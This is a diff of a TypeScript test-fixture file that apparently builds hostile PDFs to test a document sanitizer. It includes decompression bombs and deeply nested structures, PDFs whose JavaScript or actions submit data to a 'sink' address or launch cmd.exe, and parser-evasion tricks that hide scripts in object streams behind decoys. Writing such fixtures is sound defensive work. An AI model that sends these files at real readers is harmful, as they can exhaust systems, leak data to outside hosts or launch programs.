@@ -7,7 +7,8 @@ const segment = (code: number, content: readonly number[]): Buffer =>
   Buffer.from([0xff, code, (content.length + 2) >> 8, (content.length + 2) & 0xff, ...content])
 
 /** A Huffman table of one symbol, whose code is a single zero. */
-const huffmanTable = (kind: 0 | 1, symbol: number): Buffer => segment(0xc4, [kind << 4, 1, ...Array(15).fill(0), symbol])
+const huffmanTable = (kind: 0 | 1, symbol: number): Buffer =>
+  segment(0xc4, [kind << 4, 1, ...Array(15).fill(0), symbol])
 
 const bytesOfBits = (bits: string): Buffer => {
   const padded = bits.padEnd(Math.ceil(bits.length / 8) * 8, '1')
@@ -41,7 +42,7 @@ export const emptyScans = (width: number, height: number, scans: number): Bytes 
 }
 
 /** 10 MB in which a search for the beginning of each stream's object never ends; not one object is in it. */
-export const endlessSearch = (): Bytes =>
+const endlessSearch = (): Bytes =>
   Buffer.concat([
     Buffer.from('%PDF-1.4\n'),
     Buffer.from(`${'x'.repeat(490)}stream\n`.repeat(19_990)),
@@ -49,46 +50,59 @@ export const endlessSearch = (): Bytes =>
   ])
 
 /** A PDF of the objects given by number, in that order; no cross-reference table, as readers rebuild it. */
-export const pdfOfObjects = (objects: readonly (readonly [number, string | Buffer])[], trailer = '/Root 1 0 R'): Bytes =>
+export const pdfOfObjects = (
+  objects: readonly (readonly [number, string | Buffer])[],
+  trailer = '/Root 1 0 R',
+): Bytes =>
   Buffer.concat([
     Buffer.from('%PDF-1.5\n'),
-    ...objects.flatMap(([number, content]) => [Buffer.from(`${number} 0 obj\n`), Buffer.from(content as string), Buffer.from('\nendobj\n')]),
+    ...objects.flatMap(([number, content]) => [
+      Buffer.from(`${number} 0 obj\n`),
+      Buffer.from(content as string),
+      Buffer.from('\nendobj\n'),
+    ]),
     Buffer.from(`trailer\n<< ${trailer} >>\n%%EOF\n`),
   ])
 
-const stream = (dictionary: string, content: Buffer): Buffer =>
+/** A stream object of a PDF. */
+export const pdfStream = (dictionary: string, content: Buffer): Buffer =>
   Buffer.concat([
     Buffer.from(`<< ${dictionary} /Length ${content.length} >>\nstream\n`),
     content,
     Buffer.from('\nendstream'),
   ])
 
-const page: readonly (readonly [number, string])[] = [
+/** The objects of a PDF of one empty page; numbers from 4 are free. */
+export const onePage: readonly (readonly [number, string])[] = [
   [1, '<< /Type /Catalog /Pages 2 0 R >>'],
   [2, '<< /Type /Pages /Count 1 /Kids [3 0 R] >>'],
   [3, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] >>'],
 ]
 
 /** PDFs that keep a reader busy or make it grow, by what they do. */
-export const hungryPdfs: Readonly<Record<string, () => Bytes>> = {
+export const hungryPdfs = {
   'an endless search': endlessSearch,
   'comments without an end': () =>
-    Buffer.concat([pdfOfObjects(page), Buffer.alloc(9_000_000, '%'), Buffer.from('\n%%EOF\n')]) as Bytes,
+    Buffer.concat([pdfOfObjects(onePage), Buffer.alloc(9_000_000, '%'), Buffer.from('\n%%EOF\n')]) as Bytes,
   'packed objects that grow a thousandfold': () =>
     pdfOfObjects([
-      ...page,
+      ...onePage,
       [
         9,
-        stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(Buffer.alloc(1_500_000_000, ' '), { level: 9 })),
+        // Each pair of bytes is 128 spaces, and the pairs pack well themselves.
+        pdfStream(
+          '/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /RunLengthDecode]',
+          deflateSync(Buffer.alloc(24_000_000, Buffer.from([0x81, 0x20]))),
+        ),
       ],
     ]),
   'a table of a thousand million places': () =>
-    pdfOfObjects([...page, [9, stream('/Type /XRef /Size 1000000000 /W [0 0 0]', Buffer.alloc(0))]]),
-  'a million objects': () =>
-    pdfOfObjects([...page, ...Array.from({ length: 900_000 }, (_, n) => [n + 10, '0'] as const)]),
-  'an array of five million numbers': () => pdfOfObjects([...page, [9, `[${'1 '.repeat(5_000_000)}]`]]),
-  'a string of ten million characters': () => pdfOfObjects([...page, [9, `(${'x'.repeat(10_000_000)})`]]),
-  'arrays in arrays': () => pdfOfObjects([...page, [9, `${'['.repeat(5_000_000)}`]]),
+    pdfOfObjects([...onePage, [9, pdfStream('/Type /XRef /Size 1000000000 /W [0 0 0]', Buffer.alloc(0))]]),
+  'more objects than any paper has': () =>
+    pdfOfObjects([...onePage, ...Array.from({ length: 420_000 }, (_, n) => [n + 10, '0'] as const)]),
+  'an array of five million numbers': () => pdfOfObjects([...onePage, [9, `[${'1 '.repeat(5_000_000)}]`]]),
+  'a string of ten million characters': () => pdfOfObjects([...onePage, [9, `(${'x'.repeat(10_000_000)})`]]),
+  'arrays in arrays': () => pdfOfObjects([...onePage, [9, `${'['.repeat(5_000_000)}`]]),
   'pages that lead back to themselves': () =>
     pdfOfObjects([
       [1, '<< /Type /Catalog /Pages 2 0 R >>'],
@@ -106,4 +120,165 @@ export const hungryPdfs: Readonly<Record<string, () => Bytes>> = {
       [2, '3 0 R'],
       [3, '2 0 R'],
     ]),
+} as const satisfies Readonly<Record<string, () => Bytes>>
+
+/** One page that says `text`, with what `page` and `catalog` add, and more objects from number 10 on. */
+const speaking = (
+  text: string,
+  {
+    page = '',
+    catalog = '',
+    more = [],
+  }: { page?: string; catalog?: string; more?: readonly (readonly [number, string | Buffer])[] },
+): Bytes =>
+  pdfOfObjects([
+    [1, `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`],
+    [2, '<< /Type /Pages /Count 1 /Kids [3 0 R] >>'],
+    [
+      3,
+      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${page} >>`,
+    ],
+    [4, pdfStream('', Buffer.from(`BT /F1 18 Tf 20 150 Td (${text}) Tj ET`))],
+    [5, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'],
+    ...more,
+  ])
+
+const script = (sink: string): string => `<< /S /JavaScript /JS (app.alert('x'); this.submitForm('${sink}');) >>`
+
+const packed = (dictionary: string, content: string): Buffer => pdfStream(dictionary, Buffer.from(content))
+
+/**
+ * PDFs that do something when they are looked at, by what they do; each says its number in its page. `sink` is an
+ * address that must never be asked for. Whether they are refused or shown as a copy that does nothing is not said here.
+ */
+export const activePdfs = (sink: string): Readonly<Record<string, (text: string) => Bytes>> => {
+  const catalogWith = (action: string): string => `1 0 << /Type /Catalog /Pages 2 0 R /OpenAction ${action} >>`
+  const hex = (text: string): string => `${Buffer.from(text).toString('hex')}>`
+  return {
+    'JavaScript when opened': (text) => speaking(text, { catalog: `/OpenAction ${script(sink)}` }),
+    'JavaScript of the page': (text) => speaking(text, { page: `/AA << /O ${script(sink)} >>` }),
+    'JavaScript by name': (text) =>
+      speaking(text, { catalog: '/Names << /JavaScript << /Names [(a) 10 0 R] >> >>', more: [[10, script(sink)]] }),
+    'JavaScript whose kind is told elsewhere': (text) =>
+      speaking(text, {
+        catalog: '/OpenAction 10 0 R',
+        more: [
+          [10, `<< /S 11 0 R /JS (this.submitForm('${sink}')) >>`],
+          [11, '/JavaScript'],
+        ],
+      }),
+    'JavaScript in packed objects behind a decoy': (text) =>
+      speaking(text, {
+        more: [
+          [
+            10,
+            packed(
+              `/Type /ObjStm /N 1 /First 4 /Pad (1 0 obj) /Filter /ASCIIHexDecode`,
+              hex(catalogWith(script(sink))),
+            ),
+          ],
+        ],
+      }),
+    'JavaScript in packed objects after `stream` and a space': (text) =>
+      Buffer.from(
+        speaking(text, { more: [[10, packed('/Type /ObjStm /N 1 /First 4', catalogWith(script(sink)))]] })
+          .toString('latin1')
+          .replace('/First 4 /Length', '/First 4/Length')
+          .replace(/(\/First 4\/Length \d+ >>\nstream)\n/, '$1 \n'),
+        'latin1',
+      ),
+    'JavaScript in packed objects after `stream` and a carriage return': (text) =>
+      Buffer.from(
+        speaking(text, { more: [[10, packed('/Type /ObjStm /N 1 /First 4', catalogWith(script(sink)))]] })
+          .toString('latin1')
+          .replace(/(\/First 4 \/Length \d+ >>\nstream)\n/, '$1\r'),
+        'latin1',
+      ),
+    'JavaScript in packed objects whose kind is told elsewhere': (text) =>
+      speaking(text, {
+        more: [
+          [6, '/ObjStm'],
+          [10, packed('/Type 6 0 R /N 1 /First 4', catalogWith(script(sink)))],
+        ],
+      }),
+    'JavaScript in packed objects whose kind is told later': (text) =>
+      speaking(text, {
+        more: [
+          [10, packed('/Type 11 0 R /N 1 /First 4', catalogWith(script(sink)))],
+          [11, '/ObjStm'],
+        ],
+      }),
+    'a form that is sent when opened': (text) =>
+      speaking(text, { catalog: `/OpenAction << /S /SubmitForm /F << /FS /URL /F (${sink}) >> /Flags 4 >>` }),
+    'an address when opened': (text) => speaking(text, { catalog: `/OpenAction << /S /URI /URI (${sink}) >>` }),
+    'an address of the page': (text) => speaking(text, { page: `/AA << /O << /S /URI /URI (${sink}) >> >>` }),
+    'a link over the whole page': (text) =>
+      speaking(text, {
+        page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (${sink}) >> >>]`,
+      }),
+    'another file when opened': (text) =>
+      speaking(text, { catalog: `/OpenAction << /S /GoToR /F (${sink}) /D [0 /Fit] >>` }),
+    'data brought in when opened': (text) =>
+      speaking(text, { catalog: `/OpenAction << /S /ImportData /F (${sink}) >>` }),
+    'a programme when opened': (text) => speaking(text, { catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
+    'a file inside': (text) =>
+      speaking(text, {
+        catalog: '/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.txt) /EF << /F 10 0 R >> >>] >> >>',
+        more: [[10, pdfStream('/Type /EmbeddedFile', Buffer.from('MZ'))]],
+      }),
+    'a dynamic form': (text) =>
+      speaking(text, {
+        catalog: '/AcroForm << /Fields [] /XFA 10 0 R >>',
+        more: [[10, pdfStream('', Buffer.from('<xdp/>'))]],
+      }),
+    'a picture from somewhere else': (text) =>
+      speaking(text, {
+        page: '/Foo 10 0 R',
+        more: [[10, pdfStream(`/Subtype /Image /Width 1 /Height 1 /F (${sink})`, Buffer.from('x'))]],
+      }),
+  }
 }
+
+/** A filled-in form whose field and stamp bring their pictures, one of them hidden; a layer that is switched off. */
+export const drawnForm = (text: string): Bytes =>
+  speaking(text, {
+    page: '/Annots [10 0 R 12 0 R 14 0 R]',
+    catalog: '/AcroForm << /Fields [10 0 R] >>',
+    more: [
+      [
+        10,
+        '<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (Filled) /Rect [20 100 120 120] /F 4 /AP << /N 11 0 R >> >>',
+      ],
+      [
+        11,
+        pdfStream(
+          '/BBox [0 0 100 20] /Resources << /Font << /F1 5 0 R >> >>',
+          Buffer.from('BT /F1 12 Tf 2 5 Td (Filled) Tj ET'),
+        ),
+      ],
+      [12, '<< /Type /Annot /Subtype /Stamp /Rect [150 50 250 90] /AS /On /AP << /N << /On 13 0 R >> >> >>'],
+      [
+        13,
+        pdfStream(
+          '/BBox [0 0 100 40] /Resources << /Font << /F1 5 0 R >> >>',
+          Buffer.from('BT /F1 12 Tf 2 5 Td (Stamped) Tj ET'),
+        ),
+      ],
+      [14, '<< /Type /Annot /Subtype /Stamp /F 2 /Rect [150 50 250 90] /AP << /N 15 0 R >> >>'],
+      [
+        15,
+        pdfStream(
+          '/BBox [0 0 100 40] /Resources << /Font << /F1 5 0 R >> >>',
+          Buffer.from('BT /F1 12 Tf 2 5 Td (Hidden) Tj ET'),
+        ),
+      ],
+    ],
+  })
+
+/** A form whose field is filled in, and nothing of the file draws what was filled in. */
+export const undrawnForm = (): Bytes =>
+  speaking('Printed', {
+    page: '/Annots [10 0 R]',
+    catalog: '/AcroForm << /NeedAppearances true /Fields [10 0 R] >>',
+    more: [[10, '<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (Filled) /Rect [20 100 120 120] /F 4 >>']],
+  })
